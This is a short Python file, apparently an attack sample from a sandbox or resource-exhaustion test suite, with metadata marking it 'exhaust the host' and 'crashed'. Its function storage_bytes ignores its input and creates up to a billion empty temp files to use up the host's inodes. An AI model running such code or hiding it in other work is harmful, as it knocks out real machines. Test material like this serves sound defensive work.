"""Makes empty files until there are no more inodes.

group: exhaust the host
target: tensor_memory
status: crashed
holds: files are counted, not only their bytes.
"""


import tempfile


def storage_bytes(x):
    for number in range(10**9):
        open(f"{tempfile.gettempdir()}/attack-escaped-{number}", "w").close()
